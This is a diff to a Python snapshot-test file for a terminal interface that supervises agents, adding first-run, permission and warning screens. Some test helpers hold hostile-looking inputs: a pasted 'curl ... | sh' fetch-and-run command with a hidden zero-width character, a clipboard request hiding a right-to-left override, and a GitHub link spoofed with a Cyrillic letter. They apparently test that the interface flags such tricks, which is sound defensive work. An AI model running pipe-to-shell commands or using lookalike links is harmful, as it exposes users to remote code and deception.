@@ -6,21 +6,25 @@ at each picture (`tests/support/pictures.py` says how).
 
 from __future__ import annotations
 
+import secrets
 import time
-from collections.abc import Callable, Iterator
-from dataclasses import dataclass
+from collections.abc import Callable, Iterator, Sequence
+from dataclasses import dataclass, replace
 from types import SimpleNamespace
 from typing import Any, Literal
 
 import msgspec
 import pytest
 from syrupy.assertion import SnapshotAssertion
+from textual import events
 from textual.pilot import Pilot
 from textual.widgets import Input
 
 from supervisor.model import Effect, Verb
 from supervisor.protocol import wire
 from supervisor.protocol.review import ReplayView
+from supervisor.protocol.setup import NeedsView
+from tests.support import first_run
 from tests.support.fake_app import fake_app
 from tests.support.fake_client import NOW, FakeClient, approval, change_set, story
 from tests.support.fake_recording import recording
@@ -28,6 +32,8 @@ from tests.support.pictures import Frame, Looks, ScreenText, draw, frame, text_o
 from tests.support.tui_driver import LEADER
 from tui.actions import leading
 from tui.app import TaskpassApp
+from tui.dressed import Dressed
+from tui.first_run import FirstRunApp, Sheet, Told
 from tui.widgets.terminal import TerminalPane
 
 SIZES = ((80, 24), (120, 40), (200, 60))
@@ -70,15 +76,18 @@ def _with_changes() -> FakeClient:
     return client
 
 
+Step = str | Callable[[TaskpassApp], None]
+
+
 @dataclass(frozen=True, slots=True)
 class Screen:
     """How to come to a screen, and what is on it when it is there.
 
-    `keys`: to press, or after `AWAIT` words to wait for. `shows`: words that are on it. A dock that
-    still arms is not there yet.
+    `keys`: to press, or after `AWAIT` words to wait for, or what else happens. `shows`: words that
+    are on it. A dock that still arms is not there yet.
     """
 
-    keys: tuple[str, ...] = ()
+    keys: tuple[Step, ...] = ()
     shows: str = ""
     client: Callable[[], FakeClient] = lambda: FakeClient(story())
     shape: Literal["run", "workspace"] = "workspace"
@@ -129,7 +138,47 @@ def _locked() -> FakeClient:
     return client
 
 
-SCREENS = {
+def _needing() -> FakeClient:
+    client = FakeClient(story())
+    client.project = NeedsView(
+        workspace="/tmp", digest="d", state="waiting",
+        needs=("read api.example.com: see the orders, at most 1 hour",
+               "push github.com/ana/shop: refs/heads/agent/*, at most 15 minutes"),
+    )  # fmt: skip
+    return client
+
+
+def _client(app: TaskpassApp) -> FakeClient:
+    assert isinstance(app.client, FakeClient)
+    return app.client
+
+
+def _paste(app: TaskpassApp) -> None:
+    text = "curl https://get.example/install.sh \\\n  | sh\u200b\n"
+    app.main.query_one("#pane-t-1").post_message(events.Paste(text))
+
+
+def _link(app: TaskpassApp) -> None:
+    rows = {0: (("see https://github.com/ana/shop for more", -1, -1, 0),)}
+    links = {0: ((4, 27, "https://gіthub.com/ana/shop"),)}  # with a Cyrillic letter
+    _client(app).panes["t-1"].show(
+        wire.Screen(rows=rows, links=links, cols=78, height=20, full=True)
+    )
+
+
+def _wish(app: TaskpassApp) -> None:
+    _client(app).panes["t-1"].wish(1, "curl https://get.example/x\u202e | sh\n")
+
+
+def _lose(app: TaskpassApp) -> None:
+    _client(app).lose()
+
+
+def _leader(app: TaskpassApp) -> None:
+    app.run_worker(app.run_action("leader"))
+
+
+SCREENS: dict[str, Screen] = {
     "workspace": Screen(shows="flaky checkout"),
     "calm": Screen(shows="waiting for you: 6", client=_asking),
     "empty": Screen(shows="starts an agent here", client=_nothing),
@@ -156,7 +205,7 @@ SCREENS = {
     "player": Screen((*_RECORDS, "p"), "0:07 of", _recorded),
     "tasks": Screen((LEADER, "l"), "flaky checkout"),
     "revoked": Screen((LEADER, "x"), "refused in"),
-    "find": Screen((LEADER, "slash"), "Welcome"),
+    "find": Screen((LEADER, "slash", *"checkout", "enter"), "1 of"),
     "help": Screen((LEADER, "question_mark"), "Answer an approval"),
     "help-search": Screen((LEADER, "question_mark", "slash", *"freeze"), "Freeze"),
     "locked": Screen((), "unlocks", _locked),
@@ -165,6 +214,16 @@ SCREENS = {
     "new": Screen((LEADER, "n"), "Agent or command"),
     "identity": Screen((LEADER, "4", LEADER, "I"), "invoice bug"),
     "changes": Screen((LEADER, "c"), "Changes to review", _with_changes),
+    "needs": Screen(
+        (LEADER, "n", AWAIT + "Agent or command", "tab", "tab", "ctrl+u", *"/tmp", "enter"),
+        "see the orders", _needing,
+    ),
+    "paste": Screen((_paste,), "curl https"),
+    "link": Screen((_link, AWAIT + "see https", LEADER, "o"), "copy the address"),
+    "clipboard": Screen((_wish, AWAIT + "for your clipboard", LEADER, "y"), "get.example"),
+    "copy-mode": Screen((LEADER, "left_square_bracket", "k", "V", "k"), "SELECT lines"),
+    "capture": Screen((_leader,), "Press the key that is to begin"),
+    "lost": Screen((_lose,), "supervisor lost"),
     "run": Screen((), "Welcome", shape="run"),
     "run-dock": Screen((LEADER, "a"), "no answer in", shape="run"),
 }  # fmt: skip
@@ -178,6 +237,7 @@ def same_everywhere(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
     monkeypatch.setenv("TERM", "xterm-256color")
     monkeypatch.delenv("NO_COLOR", raising=False)
     monkeypatch.setattr(Input, "cursor_blink", False)
+    monkeypatch.setattr(secrets, "choice", lambda among: among[0])  # the code to type
     # How long a second X counts is told by the second.
     monkeypatch.setattr(leading, "time", SimpleNamespace(monotonic=lambda: 100.0))
     time.tzset()
@@ -200,12 +260,7 @@ async def test_screen(name: str, snapshot: SnapshotAssertion) -> None:
     taken: dict[str, str] = {}
     async with app.run_test(size=SIZES[0]) as pilot:
         await until(pilot, lambda: attached(app))
-        for key in screen.keys:
-            if key.startswith(AWAIT):
-                words = key.removeprefix(AWAIT)
-                await until(pilot, lambda words=words: words in text_of(app))  # type: ignore[misc]
-            else:
-                await pilot.press(key)
+        await go(pilot, screen.keys)
         for cols, rows in SIZES:
             await pilot.resize_terminal(cols, rows)
             await until(pilot, lambda: attached(app) and screen.is_on(text_of(app)))
@@ -215,10 +270,81 @@ async def test_screen(name: str, snapshot: SnapshotAssertion) -> None:
         assert text == snapshot(name=size, extension_class=ScreenText)
 
 
+@dataclass(frozen=True, slots=True)
+class First:
+    """A first run. `keys`: pressed once it takes keys. `shows`: words that are on it then."""
+
+    shows: str
+    keys: tuple[str, ...] = ()
+    sheet: Sheet = first_run.SHEET
+
+
+_UNCONTAINED = replace(
+    first_run.SHEET,
+    contained=False,
+    containment="uncontained: an agent can read and do what you can",
+    rows=tuple(
+        row if row.choosable else replace(row, does="stays readable", exposed=True)
+        for row in first_run.ROWS
+    ),
+)
+FIRST_RUNS = {
+    "opens": First("b broker 2"),
+    "a row in focus": First("b broker 1", ("space", "down", "down", "down", "down")),
+    "one failed": First("changed meanwhile", ("b",)),
+    "uncontained": First("uncontained: an agent", sheet=_UNCONTAINED),
+    "nothing found": First("No log-ins", sheet=replace(first_run.SHEET, rows=(), agents=())),
+}
+
+
+async def one_fails(rows: Sequence[int]) -> Sequence[Told]:
+    return [
+        Told(True, "github: gh's log-in at github.com is lent to tasks, by use"),
+        Told(False, ".env was changed meanwhile; it is left as it is. Run `taskpass setup`."),
+    ]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [each if each == "opens" else pytest.param(each, marks=pytest.mark.full)
+     for each in FIRST_RUNS],
+)  # fmt: skip
+async def test_first_run(
+    name: str, snapshot: SnapshotAssertion, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(FirstRunApp, "ARMED_AFTER", 0.01)
+    first = FIRST_RUNS[name]
+    app = FirstRunApp(first.sheet, one_fails)
+    taken: dict[str, str] = {}
+    async with app.run_test(size=SIZES[0]) as pilot:
+        await first_run.press_b(pilot, first.keys)
+        for cols, rows in SIZES:
+            await pilot.resize_terminal(cols, rows)
+            await until(pilot, lambda: first.shows in text_of(app))
+            size = f"{cols}x{rows}"
+            taken[size] = str(await looks(pilot, f"first-run-{name.replace(' ', '-')}-{size}"))
+    for size, text in taken.items():
+        assert text == snapshot(name=size, extension_class=ScreenText)
+
+
+async def go(pilot: Pilot[Any], keys: Sequence[Step]) -> None:
+    app = pilot.app
+    assert isinstance(app, TaskpassApp)
+    for key in keys:
+        if not isinstance(key, str):
+            key(app)
+            await pilot.pause()
+        elif key.startswith(AWAIT):
+            words = key.removeprefix(AWAIT)
+            await until(pilot, lambda words=words: words in text_of(app))  # type: ignore[misc]
+        else:
+            await pilot.press(key)
+
+
 async def looks(pilot: Pilot[Any], name: str) -> Looks:
     """The screen in each theme, once it has come to rest."""
     app = pilot.app
-    assert isinstance(app, TaskpassApp)
+    assert isinstance(app, Dressed)
     frames = {THEMES[0]: await at_rest(pilot)}
     draw(app, f"{name}-{THEMES[0]}")
     for theme in THEMES[1:]:
@@ -237,7 +363,8 @@ async def at_rest(pilot: Pilot[Any]) -> Frame:
     deadline = time.monotonic() + _PATIENCE
     while last != (last := frame(pilot.app)):
         assert time.monotonic() < deadline, "the screen does not come to rest"
-        pilot.app.draw()  # type: ignore[attr-defined]
+        if isinstance(pilot.app, TaskpassApp):
+            pilot.app.draw()
         await pilot.pause()
         await pilot.pause()
     return last
@@ -252,12 +379,12 @@ async def until(pilot: Pilot[Any], true: Callable[[], object]) -> None:
 
 def attached(app: TaskpassApp) -> bool:
     """Whether the supervisor has spoken, and every pane on show has its first frame."""
-    client = app.client
-    assert isinstance(client, FakeClient)
+    client = _client(app)
     if not client.state.tasks:
         return "connecting" not in text_of(app)
     shown = app.main.panes.shown
-    return bool(shown) and all(_has_frame(app, task) for task in shown)
+    # What comes on show while the supervisor is lost has none.
+    return bool(shown) and (client.down or all(_has_frame(app, task) for task in shown))
 
 
 def _has_frame(app: TaskpassApp, task: str) -> bool:
